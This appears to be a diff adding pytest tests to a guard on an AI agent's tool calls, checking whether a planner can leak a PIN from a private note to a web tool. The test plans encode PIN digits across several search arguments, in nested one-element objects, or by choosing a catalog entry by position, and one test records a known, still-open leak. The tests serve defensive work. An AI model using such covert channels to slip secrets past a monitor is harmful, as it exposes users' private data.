@@ -400,3 +400,71 @@ def test_an_apps_own_history_gets_no_covered_call_per_message(bench: Bench) -> N
         bench, [(_app_asks(vault), lookup), (_app_asks(later), again)], True
     )
     assert len(looked_up) <= 1
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="'no list or object of more than one element' is judged per argument: a tool "
+    "with several text arguments takes one span of the request in each, so one covered "
+    "call carries log2(43) bits per argument: three arguments spell the whole 4-digit PIN. "
+    "Fix: after a private read the covered call may hold the user's words in one argument "
+    "only (the others empty or their defaults), or count spans over the whole call.",
+)
+def test_the_covered_calls_arguments_together_cannot_spell_the_pin(tmp_path) -> None:
+    executor, _, data = phone(tmp_path)
+    (data.root / "notes.json").write_text(PIN_NOTE)
+    searched: list[tuple[str, str, str]] = []
+
+    async def web_search(site: str, query: str, topic: str, region: str) -> str:
+        """Search a web site by query, topic and region."""
+        searched.append((query, topic, region))
+        return "Sunny."
+
+    executor.registry.add(declared(web_search, Tier.OPEN_WORLD_READ, control_args=["site"]))
+    spans = _spans(REQUEST)
+    n = len(spans)
+    digits = [PIN % n, PIN // n % n, PIN // n // n % n]
+    query, topic, region = (spans[d] for d in digits)
+    leak = make_plan(
+        (
+            "s1",
+            "web_search",
+            {"site": "news.example", "query": query, "topic": topic, "region": region},
+            [],
+        )
+    )
+    rounds(executor, REQUEST, READ_NOTE, leak)
+    spelled = [sum(spans.index(v) * n**k for k, v in enumerate(s)) for s in searched]
+    assert PIN not in spelled
+
+
+def test_the_covered_calls_nested_one_element_objects_are_asked(tmp_path) -> None:
+    """Objects of one element each, nested: their keys are the planner's too; asked."""
+    executor, _, data = phone(tmp_path)
+    (data.root / "notes.json").write_text(PIN_NOTE)
+    sent_out: list[object] = []
+
+    async def web_query(site: str, filters: dict[str, object]) -> str:
+        """Query a web site with filters."""
+        sent_out.append(filters)
+        return "Sunny."
+
+    executor.registry.add(declared(web_query, Tier.OPEN_WORLD_READ, control_args=["site"]))
+    nested = {"news": {"weather": {"the": "news"}}}
+    leak = make_plan(("s1", "web_query", {"site": "news.example", "filters": nested}, []))
+    obs = rounds(executor, REQUEST, READ_NOTE, leak)
+    assert obs[-1].status == "refused" and sent_out == []
+
+
+def test_the_covered_calls_ref_to_a_clean_result_by_position_is_asked(tmp_path) -> None:
+    """A `$ref` into a clean listing (the app's catalog) picking its entry by position:
+    which position is the planner's choice; asked."""
+    executor, _, looked_up = _pin_phone(tmp_path)
+    executor.registry.add(_catalog(frozenset()))
+    pick = {"$ref": f"s1.result.{PIN & 1}.page"}
+    leak = make_plan(
+        ("s1", "catalog", {}, []),
+        ("s2", "web_lookup", {"site": "news.example", "query": pick}, ["s1"]),
+    )
+    obs = rounds(executor, REQUEST, READ_NOTE, leak)
+    assert obs[-1].status == "refused" and looked_up == []
